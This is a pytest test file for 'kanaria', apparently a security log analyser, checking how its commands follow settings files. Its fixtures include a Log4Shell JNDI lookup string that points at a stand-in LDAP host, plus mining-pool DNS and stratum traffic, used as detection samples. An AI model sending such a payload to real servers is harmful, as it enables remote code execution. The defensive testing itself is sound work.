"""Settings × commands: each command that takes ``--config`` heeds what the file says, wherever that file lies."""

from __future__ import annotations

import shutil
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path

import pytest

import kanaria
from kanaria.app import config
from kanaria.store.incidents import IncidentStore
from tests.app.running import Kanaria
from tests.app.test_cli_incident import DAY, MINER_HOST, flow, guessing
from tests.app.test_what_teaches import hourly

POOL = "pool.supportxmr.com"
LOOKUP = '203.0.113.66 - - [02/Mar/2026:04:00:00 +0000] "GET /?x=${jndi:ldap://198.51.100.66/a} HTTP/1.1" 404 9 "-" "-"'
INTRANET = '203.0.113.7 - - [21/Jun/2026:07:01:00 +0000] "GET /intranet/logon.html HTTP/1.1" 404 9 "-" "Mozilla/5.0"'
ASKED = f"Mar  2 10:00:00 dnsmasq[7]: query[A] {POOL} from {MINER_HOST}"
LEARNED_BY = 'store = "kept"\n[baseline]\nhalf_life_days = 30\nwarm_up_days = 1\n'


def own_rule() -> str:
    page = Path(__file__).parents[2] / "docs" / "how-to" / "write-a-rule.md"
    return page.read_text().partition("```yaml file=my-rules/intranet_logon.yml\n")[2].partition("```")[0]


@pytest.fixture(scope="module")
def learned(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Logs, and a store that learned from them with a half-life of its own, once for all tests."""
    place = tmp_path_factory.mktemp("learned")
    (place / "auth.log").write_text("\n".join(guessing(DAY, "203.0.113.9")) + "\n")
    (place / "conn.log").write_text("\n".join(hourly(2)) + "\n")
    (place / "k.toml").write_text(LEARNED_BY)
    kanaria.analyse(place / "auth.log", place / "conn.log", config=place / "k.toml", store=place / "kept")
    return place


@pytest.fixture
def ident(learned: Path, house: Path, tmp_path: Path) -> str:
    """The incident of a copy of that store, which lies where the settings say."""
    shutil.copytree(learned / "kept", house / "kept")
    (house / "k.toml").write_text(LEARNED_BY)
    with IncidentStore(house / "kept") as store:
        return store.all()[0].id


@pytest.fixture
def house(tmp_path: Path, learned: Path) -> Path:
    """A settings file in a folder of its own, beside rules and facts, and not where commands are called."""
    place = tmp_path / "etc"
    (place / "my-rules").mkdir(parents=True)
    (place / "my-rules" / "intranet.yml").write_text(own_rule())
    (place / "facts").mkdir()
    (place / "k.toml").write_text('store = "kept"\nrules = ["my-rules"]\n')
    (tmp_path / "access.log").write_text(INTRANET + "\n")
    for log in ("auth.log", "conn.log"):
        shutil.copy(learned / log, tmp_path)
    return place


class TestRelativeNames:
    """Whatever is a file or folder is taken from the folder of the settings file, whoever calls from where."""

    def test_rules(self, kanaria: Kanaria, house: Path) -> None:
        found = kanaria("analyze", "access.log", "--config", "etc/k.toml", "--format", "json").document
        assert [f["rule"] for i in found["incidents"] for f in i["findings"]] == ["intranet_logon_from_outside"]
        assert not any("not loaded" in note["en"] for note in found["notes"])

    def test_facts(self, kanaria: Kanaria, house: Path, tmp_path: Path) -> None:
        (tmp_path / "list.txt").write_text("xmr.new-pool.example\n")
        assert kanaria("knowledge", "update", "--pools", "list.txt", "--folder", "etc/facts").status == 0
        (house / "k.toml").write_text('knowledge = "facts"\n')
        (tmp_path / "dns.log").write_text(ASKED.replace(POOL, "xmr.new-pool.example") + "\n")
        assert kanaria("analyze", "dns.log", "--config", "etc/k.toml", "--format", "json").document["incidents"]
        assert not kanaria("analyze", "dns.log", "--format", "json").document["incidents"]

    def test_the_store(self, kanaria: Kanaria, house: Path) -> None:
        kanaria("analyze", "auth.log", "--config", "etc/k.toml", "-o", "out.txt")
        assert (house / "kept" / "incidents.sqlite").exists()

    @pytest.mark.parametrize(
        ("text", "of"),
        [
            ('store = "x"', lambda c: c.store),
            ('rules = ["x"]', lambda c: c.rules[0]),
            ('knowledge = "x"', lambda c: c.knowledge),
            ('[serve]\nocsf = "x"', lambda c: c.serve.ocsf),
            ('[[sources]]\nkind = "file"\npath = "x"', lambda c: c.sources[0].path),
            ('[[sources]]\nkind = "zeek"\npath = "x"', lambda c: c.sources[0].path),
            ('[[sources]]\nkind = "http"\ntoken = "file:x"', lambda c: c.sources[0].token.removeprefix("file:")),
            ('[[sources]]\nkind = "syslog"\nlisten = "127.0.0.1:5514"\nprotocol = "tcp"\ncertificate = "x"\nkey = "x"', lambda c: c.sources[0].certificate),
            ('[[sources]]\nkind = "syslog"\nlisten = "127.0.0.1:5514"\nprotocol = "tcp"\ncertificate = "x"\nkey = "x"', lambda c: c.sources[0].key),
            ('[[notify]]\nurl = "file:x"', lambda c: c.notify[0].url.removeprefix("file:")),
            ('[[notify]]\nurl = "webhook+https://example.org"\nsecret = "file:x"', lambda c: c.notify[0].secret.removeprefix("file:")),
        ],
    )  # fmt: skip
    def test_every_setting_that_names_one(
        self, tmp_path: Path, text: str, of: Callable[[config.Config], str], monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setenv("HOME", "/home/hanako")
        (tmp_path / "etc").mkdir()
        for name, expected in (("x", str(tmp_path / "etc/x")), ("/abs/x", "/abs/x"), ("~/x", "/home/hanako/x")):
            (tmp_path / "etc/k.toml").write_text(text.replace('"x"', f'"{name}"').replace('"file:x"', f'"file:{name}"'))
            assert of(config.load(tmp_path / "etc/k.toml")) == expected

    def test_secrets_that_lie_elsewhere_are_no_files(self, tmp_path: Path) -> None:
        (tmp_path / "k.toml").write_text('[[notify]]\nurl = "env:PHONE"\n[[notify]]\nurl = "credential:x"\n')
        assert [one.url for one in config.load(tmp_path / "k.toml").notify] == ["env:PHONE", "credential:x"]


class TestTheStoreOfTheSettings:
    """Every command about what is kept looks where the settings say."""

    @pytest.mark.parametrize(
        "command",
        [
            ("incident", "show", "{id}"), ("incident", "show", "{id}", "--format", "json"),
            ("incident", "show", "{id}", "--format", "markdown"), ("incident", "export", "{id}"),
            ("incident", "export", "{id}", "--format", "csv"), ("ask", "{id}", "who?"), ("baseline", "show"),
            ("baseline", "show", "192.168.1.53"), ("incident", "list"), ("incident", "list", "--state", "open"),
        ],
    )  # fmt: skip
    def test_reading(self, kanaria: Kanaria, house: Path, ident: str, command: tuple[str, ...]) -> None:
        words = [word.replace("{id}", ident) for word in command]
        by_settings = kanaria(*words, "--config", "etc/k.toml")
        assert by_settings.status == 0 and by_settings.out.strip()
        assert by_settings.out != kanaria(*words).out, "the user's own store is another one"

    def test_deciding(self, kanaria: Kanaria, house: Path, ident: str) -> None:
        done = kanaria("incident", "set", ident, "closed", "--why", "done", "--config", "etc/k.toml")
        assert done.status == 0, done.err
        assert " closed " in kanaria("incident", "list", "--config", "etc/k.toml").out
        assert kanaria("incident", "set", ident, "closed", "--why", "done").status == 2

    def test_saving_and_bringing_back(self, kanaria: Kanaria, house: Path, ident: str) -> None:
        listed = kanaria("incident", "list", "--config", "etc/k.toml").out
        assert kanaria("backup", "b.tar.gz", "--config", "etc/k.toml").status == 0
        (house / "kept").rename(house / "gone")
        assert kanaria("restore", "b.tar.gz", "--config", "etc/k.toml").status == 0
        assert kanaria("incident", "list", "--config", "etc/k.toml").out == listed != ""

    def test_the_named_store_wins(self, kanaria: Kanaria, house: Path, ident: str) -> None:
        assert kanaria("incident", "list", "--config", "etc/k.toml", "--store", "other").out == ""


class TestHowAStoreLearned:
    """What is normal is read, explained and added to by the settings by which it was learned."""

    def test_what_is_dismissed_becomes_normal(self, kanaria: Kanaria, house: Path, ident: str) -> None:
        """A half-life of its own was refused here: "expected 30, with which this store has learned; got 14"."""
        done = kanaria("incident", "set", ident, "dismissed", "--why", "a test", "--config", "etc/k.toml")
        assert (done.status, done.err) == (0, "")
        assert " dismissed " in done.out
        again = kanaria("incident", "set", ident, "open", "--why", "after all", "--config", "etc/k.toml")
        assert (again.status, again.err) == (0, "")

    def test_what_is_normal_is_shown(self, kanaria: Kanaria, house: Path, ident: str) -> None:
        assert kanaria("baseline", "show", "--config", "etc/k.toml").out.startswith("settled (2 d")

    def test_more_is_learned(self, kanaria: Kanaria, house: Path, ident: str, tmp_path: Path) -> None:
        later = [flow(DAY + timedelta(days=3, hours=n), n, MINER_HOST, "192.168.1.1", 53) for n in range(3)]
        (tmp_path / "more.log").write_text("\n".join(later) + "\n")
        assert kanaria("baseline", "learn", "more.log", "--config", "etc/k.toml").status == 0
        assert "192.168.1.1" in kanaria("baseline", "show", MINER_HOST, "--config", "etc/k.toml").out

    @pytest.mark.parametrize(
        "command", [("baseline", "show"), ("baseline", "learn", "conn.log"), ("analyze", "conn.log")]
    )
    def test_by_others_it_is_refused_with_what_to_do(
        self, kanaria: Kanaria, house: Path, ident: str, command: tuple[str, ...]
    ) -> None:
        done = kanaria(*command, "--store", str(house / "kept"))
        assert done.status == 2
        assert "baseline.half_life_days: expected 30" in done.err and "set it back" in done.err


@pytest.fixture(scope="module")
def renamed(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A settings file with facts in which Log4j has another name, its store, and the incident in it."""
    from kanaria import knowledge

    place = tmp_path_factory.mktemp("renamed")
    (place / "facts").mkdir()
    product = knowledge.load().vulnerabilities["CVE-2021-44228"].product
    source = next((Path(knowledge.__file__).parent / "data").rglob("vulnerabilities.yaml"))
    (place / "facts" / "vulnerabilities.yaml").write_text(source.read_text().replace(product, "Our own name of Log4j"))
    (place / "k.toml").write_text('store = "kept"\nknowledge = "facts"\n')
    (place / "web.log").write_text(LOOKUP + "\n")
    found = kanaria.analyse(place / "web.log", config=place / "k.toml", store=place / "kept")
    return place, found.incidents[0].id


class TestFactsOfTheSettings:
    """What an incident is called and exported with comes from the facts that settings name."""

    @pytest.mark.parametrize(
        "command",
        [("export", "{id}", "--format", "json"), ("export", "{id}", "--format", "markdown"),
         ("show", "{id}", "--format", "markdown"), ("show", "{id}", "--format", "html")],
    )  # fmt: skip
    def test_each_way_of_showing_it(
        self, kanaria: Kanaria, renamed: tuple[Path, str], command: tuple[str, ...]
    ) -> None:
        """Advice is kept as it was given; what else is known of the product is looked up."""
        place, ident = renamed
        words = [word.replace("{id}", ident) for word in command]
        named = kanaria("incident", *words, "--config", str(place / "k.toml"))
        bundled = kanaria("incident", *words, "--store", str(place / "kept"))
        counts = [done.out.count("Our own name of Log4j") for done in (named, bundled)]
        assert named.status == bundled.status == 0 and counts[0] > counts[1], counts


class TestWhoseAndWhatIsAllowed:
    """``home``, ``[allowed]`` and ``[devices]`` in every command that judges."""

    @pytest.mark.parametrize(
        "command",
        [("analyze", "dns.log", "--format", "json"), ("explain", ASKED, "--format", "json")],
    )  # fmt: skip
    @pytest.mark.parametrize(
        ("settings", "severity"),
        [
            ("", "medium"),
            (f'[allowed]\npools = ["{POOL}"]\n', "informational"),
            (f'[allowed]\ndevices = ["{MINER_HOST}"]\n', "informational"),
            (f'[devices]\ncritical = ["{MINER_HOST}"]\n', "medium"),
        ],
    )
    def test_a_question_for_a_pool(
        self, kanaria: Kanaria, tmp_path: Path, command: tuple[str, ...], settings: str, severity: str
    ) -> None:
        (tmp_path / "dns.log").write_text(ASKED + "\n")
        (tmp_path / "k.toml").write_text(settings)
        assert kanaria(*command, "--config", "k.toml").incident["severity"] == severity


class TestLanguageOfTheSettings:
    @pytest.mark.parametrize(
        "command",
        [
            ("analyze", "access.log"), ("explain", LOOKUP), ("incident", "list"), ("incident", "show", "{id}"),
            ("incident", "export", "{id}", "--format", "markdown"), ("ask", "{id}", "who?"), ("baseline", "show"),
            ("devices", "conn.log"), ("beacons", "conn.log"), ("baseline", "learn", "conn.log"),
            ("check-config",), ("baseline", "explain", "conn.log:1", "conn.log"),
        ],
    )  # fmt: skip
    def test_a_command_speaks_it_and_the_option_is_stronger(
        self, kanaria: Kanaria, house: Path, ident: str, command: tuple[str, ...]
    ) -> None:
        words = [word.replace("{id}", ident) for word in command]
        (house / "k.toml").write_text(f'language = "ja"\n{LEARNED_BY}[[sources]]\nkind = "stdin"\n')
        japanese, english = (kanaria(*words, "--config", "etc/k.toml", *more).out for more in ((), ("--lang", "en")))
        assert any("ぁ" <= letter <= "龯" for letter in japanese), japanese
        assert not any("ぁ" <= letter <= "ん" for letter in english), english


class TestWhichFileCounts:
    """The named one, else the user's, else the machine's; never one that lies in the working directory."""

    def test_in_this_order(self, kanaria: Kanaria, tmp_path: Path) -> None:
        places = ["named.toml", ".config/kanaria/kanaria.toml", ".config/kanaria/kanaria.yaml", "machine.toml"]
        for name in places:
            (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
            (tmp_path / name).write_text(f"wrong_{Path(name).stem}_{Path(name).suffix[1:]}: 1" if name.endswith("yaml") else f'wrong_{places.index(name)} = 1')  # fmt: skip
        seen = [kanaria("check-config", "--config", "named.toml").err]
        for name in places[1:]:
            seen.append(kanaria("check-config").err)
            (tmp_path / name).unlink()
        assert ["wrong_0" in seen[0], "wrong_1" in seen[1], "wrong_kanaria_yaml" in seen[2], "wrong_3" in seen[3]] == [
            True
        ] * 4
        (tmp_path / "kanaria.toml").write_text("wrong = 1")
        assert "wrong" not in kanaria("check-config").err


class TestTimes:
    ERROR = (
        "2026/01/02 03:04:05 [info] 7#7: *1 client sent invalid method while reading client request line, client: "
        r'203.0.113.7, server: _, request: "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}"'
    )

    @pytest.mark.parametrize(
        ("settings", "option", "hour"),
        [
            ('timezone = "Asia/Tokyo"\n', (), "2026-01-01T18:04:05+00:00"),
            ('timezone = "+05:30"\n', (), "2026-01-01T21:34:05+00:00"),
            ('timezone = "Asia/Tokyo"\n', ("--tz", "UTC"), "2026-01-02T03:04:05+00:00"),
            ("", ("--tz", "America/New_York"), "2026-01-02T08:04:05+00:00"),
        ],
    )
    @pytest.mark.parametrize("command", ["analyze", "explain"])
    def test_of_no_zone_are_of_the_settings_and_the_option_is_stronger(
        self, kanaria: Kanaria, tmp_path: Path, command: str, settings: str, option: tuple[str, ...], hour: str
    ) -> None:
        (tmp_path / "k.toml").write_text(settings)
        (tmp_path / "error.log").write_text(self.ERROR + "\n")
        given = self.ERROR if command == "explain" else "error.log"
        done = kanaria(command, given, "--config", "k.toml", "--format", "json", *option)
        assert done.incident["first_seen"] == hour

    def test_the_report_shows_them_in_that_zone(self, kanaria: Kanaria, tmp_path: Path) -> None:
        (tmp_path / "k.toml").write_text('timezone = "Asia/Tokyo"\n')
        (tmp_path / "access.log").write_text(LOOKUP + "\n")
        assert "13:00" in kanaria("analyze", "access.log", "--config", "k.toml", "--full").out
        assert "04:00" in kanaria("analyze", "access.log", "--tz", "UTC", "--full").out
